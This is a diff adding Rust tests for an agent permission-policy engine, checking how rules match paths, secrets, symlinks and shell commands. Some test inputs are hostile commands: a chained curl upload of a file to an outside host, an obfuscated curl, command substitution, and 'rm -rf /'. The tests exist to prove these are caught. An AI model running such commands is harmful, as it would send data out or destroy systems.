@@ -1,0 +1,216 @@
+//! What rules in the file mean.
+
+use bestow::{Action, AgentId, Decision, Place as Line, Rehearsal, RuleRef, Verdict};
+
+use super::Place;
+
+/// An agent that may write `workspace`, and `rules`.
+fn ruled(rules: &str) -> String {
+    format!(
+        "[agents.lead]\nkind = \"foreground\"\nowner = \"you\"\nworking_dir = \"$DIR/policy\"\n\
+         permissions = [\"@write:$DIR/policy/site\", \"@network\"]\n{rules}\n"
+    )
+}
+
+/// One rule of that agent. Its line is 6.
+fn rule(body: &str) -> String {
+    ruled(&format!("[[agents.lead.rules]]\n{body}"))
+}
+
+fn saved(text: &str) -> Place {
+    let place = Place::new();
+    place.write("policy/agents.toml", text.replace("$DIR", place.text("").trim_end_matches('/')));
+    place
+}
+
+fn lead() -> AgentId {
+    "lead".parse().unwrap()
+}
+
+fn decided(place: &Place, action: &Action) -> Decision {
+    Rehearsal::of(place.load().unwrap()).unwrap().explain(&lead(), action).unwrap().decision
+}
+
+fn verdict(place: &Place, action: &Action) -> Verdict {
+    decided(place, action).verdict()
+}
+
+#[test]
+fn a_rule_is_met_by_the_real_path_and_says_where_it_is_written() {
+    let place = saved(&rule("verdict = \"deny\"\npath = \"site/secrets/**\"\nwhy = \"keys\""));
+    std::fs::create_dir_all(place.path("policy/site/secrets")).unwrap();
+    place.link("policy/site/door", "secrets");
+    for path in ["site/secrets/key", "site/door/key", "site/secrets", "site/x/../secrets/key"] {
+        std::fs::create_dir_all(place.path("policy/site/x")).unwrap();
+        let decision = decided(&place, &Action::read(path));
+        assert_eq!(decision.verdict(), Verdict::Deny, "{path}: {decision}");
+        let [RuleRef::Rule { rule, place: Line { line: 6, .. } }] = &decision.rule_refs[..] else {
+            panic!("{decision}")
+        };
+        assert!(rule.ends_with(": keys"), "{rule}");
+    }
+    assert_eq!(verdict(&place, &Action::write("site/secrets.txt")), Verdict::Allow);
+}
+
+/// Whoever reaches the file through a link would otherwise write rules that no real path is ever like.
+#[test]
+fn patterns_are_relative_to_the_real_directory_of_the_file() {
+    let place = saved(&rule("verdict = \"deny\"\npath = \"site/**\""));
+    place.link("door", "policy");
+    let policy = place.file_at("door/agents.toml").load().unwrap();
+    let rehearsal = Rehearsal::of(policy).unwrap();
+    for path in [place.text("policy/site/x"), place.text("door/site/x")] {
+        let verdict = rehearsal.explain(&lead(), &Action::write(&path)).unwrap().decision.verdict();
+        assert_eq!(verdict, Verdict::Deny, "{path}");
+    }
+}
+
+#[test]
+fn a_no_to_a_directory_is_a_no_to_everything_below_it_and_a_yes_is_not() {
+    let place = saved(&rule("verdict = \"deny\"\noperation = \"fs.write\"\npath = \"site/a\""));
+    assert_eq!(verdict(&place, &Action::write("site/a/b/c")), Verdict::Deny);
+    assert_eq!(verdict(&place, &Action::write("site/ab")), Verdict::Allow);
+    let untrusted = rule("verdict = \"allow\"\noperation = \"fs.write\"\npath = \"site/a\"");
+    let place = saved(&untrusted.replace("permissions", "mode = \"untrusted\"\npermissions"));
+    assert_eq!(verdict(&place, &Action::write("site/a")), Verdict::Allow);
+    assert_eq!(verdict(&place, &Action::write("site/a/b")), Verdict::Ask);
+}
+
+#[test]
+fn what_denies_or_asks_begins_anywhere_and_what_allows_below_the_file() {
+    for (said, expected) in [("deny", Verdict::Deny), ("ask", Verdict::Ask)] {
+        let place = saved(&rule(&format!("verdict = \"{said}\"\npath = \"**/.env\"")));
+        for path in ["/elsewhere/.env", "site/.env", "site/.env/x"] {
+            assert_eq!(verdict(&place, &Action::read(path)), expected, "{path}");
+        }
+        assert_eq!(verdict(&place, &Action::read("site/.envrc")), Verdict::Allow);
+    }
+    let text = rule("verdict = \"allow\"\noperation = \"fs.exec\"\npath = \"**/run.sh\"");
+    let place = saved(&text);
+    assert_eq!(verdict(&place, &Action::exec("site/run.sh")), Verdict::Allow);
+    assert_eq!(verdict(&place, &Action::exec("/elsewhere/run.sh")), Verdict::Ask);
+}
+
+#[test]
+fn a_pattern_may_begin_at_home() {
+    let place = saved(&rule("verdict = \"deny\"\npath = [\"~/private/**\", \"~/**/notes\"]"));
+    for path in ["home/private/x", "home/a/b/notes"] {
+        assert_eq!(verdict(&place, &Action::read(&place.text(path))), Verdict::Deny, "{path}");
+    }
+    assert_eq!(verdict(&place, &Action::read(&place.text("elsewhere/notes"))), Verdict::Allow);
+}
+
+/// A directory may have a name that would be a pattern.
+#[test]
+fn the_directory_of_the_file_is_taken_literally() {
+    let place = saved(&rule("verdict = \"deny\"\npath = \"site/*\""));
+    std::fs::create_dir(place.path("[a-z]*")).unwrap();
+    let text = std::fs::read_to_string(place.path("policy/agents.toml")).unwrap();
+    place.write("[a-z]*/agents.toml", text);
+    let rehearsal = Rehearsal::of(place.file_at("[a-z]*/agents.toml").load().unwrap()).unwrap();
+    let says = |path: String| rehearsal.explain(&lead(), &Action::read(&path)).unwrap().decision.verdict();
+    assert_eq!(says(place.text("[a-z]*/site/x")), Verdict::Deny);
+    assert_eq!(says(place.text("abc/site/x")), Verdict::Allow);
+}
+
+#[test]
+fn lists_are_many_rules_of_one_line() {
+    let place = saved(&rule(
+        "verdict = \"deny\"\ntool = [\"write\", \"file_write\"]\noperation = [\"fs.write\", \"fs.read\"]\n\
+         path = [\"site/a\", \"site/b\"]",
+    ));
+    let rules = &place.load().unwrap().agents["lead"].rules;
+    assert!(rules.iter().all(|rule| rule.place.line == 6));
+    assert_eq!(verdict(&place, &Action::write("site/b")), Verdict::Deny);
+    assert_eq!(verdict(&place, &Action::write("site/b").by_tool("editor".parse().unwrap())), Verdict::Allow);
+}
+
+#[test]
+fn commands_are_compared_as_they_are_parsed() {
+    let place = saved(&rule("verdict = \"allow\"\ncommand = [\"git push **\", \"npm test\"]"));
+    for (line, expected) in [
+        ("git push origin main", Verdict::Allow),
+        ("git push && npm test", Verdict::Allow),
+        ("git push; curl -T x https://example.com", Verdict::Ask),
+        ("git push $(cat x)", Verdict::Ask),
+        ("./git push", Verdict::Ask),
+        ("npm test --all", Verdict::Ask),
+    ] {
+        assert_eq!(verdict(&place, &Action::command(line)), expected, "{line}");
+    }
+    let place = saved(&rule("verdict = \"deny\"\ncommand = \"curl **\""));
+    for line in ["curl x", "/usr/bin/curl x", "ls && curl x", "env curl x", "c''url x", "$(curl x)", "$x y", "ls '"] {
+        assert_eq!(verdict(&place, &Action::command(line)), Verdict::Deny, "{line}");
+    }
+    assert_eq!(verdict(&place, &Action::command("ls")), Verdict::Allow);
+}
+
+#[test]
+fn rules_of_the_defaults_bind_every_agent_and_an_agent_may_be_bound_more_tightly() {
+    let defaults = "[[defaults.rules]]\nverdict = \"allow\"\ncommand = \"npm test\"\n";
+    let more = "[agents.guest]\nkind = \"cron\"\nowner = \"you\"\nworking_dir = \"/\"\n\
+        [[agents.guest.rules]]\nverdict = \"deny\"\ncommand = \"npm test\"\n";
+    let place = saved(&(defaults.to_owned() + &ruled(more)));
+    let rehearsal = Rehearsal::of(place.load().unwrap()).unwrap();
+    for (agent, expected) in [("lead", Verdict::Allow), ("guest", Verdict::Deny)] {
+        let explanation = rehearsal.explain(&agent.parse().unwrap(), &Action::command("npm test")).unwrap();
+        assert_eq!(explanation.decision.verdict(), expected, "{explanation}");
+    }
+}
+
+#[test]
+fn the_same_rule_twice_is_one() {
+    let twice = "[[agents.lead.rules]]\nverdict = \"deny\"\noperation = \"network\"\n".repeat(2);
+    let defaults = "[[defaults.rules]]\nverdict = \"deny\"\noperation = \"network\"\n";
+    let policy = saved(&(defaults.to_owned() + &ruled(&twice))).load().unwrap();
+    assert_eq!(policy.agents["lead"].rules.len(), 1);
+    assert_eq!(policy.agents["lead"].rules[0].place.line, 1);
+}
+
+/// What a rule allows must still be held: a rule gives no right.
+#[test]
+fn no_rule_gives_a_right() {
+    let place = saved(&rule("verdict = \"allow\"").replace(", \"@network\"", ""));
+    let tool = || Action::tool("deploy".parse().unwrap(), serde_json::json!({}));
+    let network = || bestow::Permission::Network;
+    assert_eq!(verdict(&place, &tool()), Verdict::Allow);
+    for action in [
+        Action::write("/elsewhere/x"),
+        Action::network("example.com"),
+        tool().needing(network()),
+        Action::command("true").needing(network()),
+    ] {
+        assert_eq!(verdict(&place, &action), Verdict::Ask, "{action:?}");
+    }
+    assert_eq!(verdict(&place, &Action::command("rm -rf /")), Verdict::Deny);
+}
+
+/// An example is about the words of a rule. Were it followed on the disk, an agent could make it fail, and keep an edit
+/// from taking effect.
+#[test]
+fn examples_do_not_look_at_the_disk() {
+    let place = saved(&rule("verdict = \"deny\"\npath = \"site/secrets/**\"\nmatch = \"site/secrets/a/b\""));
+    std::fs::create_dir_all(place.path("policy/site/secrets")).unwrap();
+    place.link("policy/site/secrets/a", "/usr");
+    assert_eq!(place.complaints(), "nothing");
+}
+
+#[test]
+fn ten_thousand_agents_share_the_rules_of_the_defaults() {
+    let mut text = "[defaults]\nowner = \"you\"\nworking_dir = \"/\"\n".to_owned();
+    for number in 0..20 {
+        text += &format!("[[defaults.rules]]\nverdict = \"deny\"\npath = \"a{number}\"\n");
+    }
+    for number in 0..6_000 {
+        text += &format!("[agents.a{number}]\nkind = \"cron\"\n");
+    }
+    let policy = saved(&text).load().unwrap();
+    let first = &policy.agents["a0"].rules;
+    assert!(policy.agents.values().all(|agent| std::sync::Arc::ptr_eq(&agent.rules, first)));
+    text += "[agents.b]\nkind = \"cron\"\n";
+    for number in 0..1_001 {
+        text += &format!("[[agents.b.rules]]\nverdict = \"deny\"\npath = \"b{number}\"\n");
+    }
+    let told = saved(&text).complaints();
+    assert!(told.contains("2042 rules bind `[agents.b]`, and 2000 are the most"), "{told}");
+}
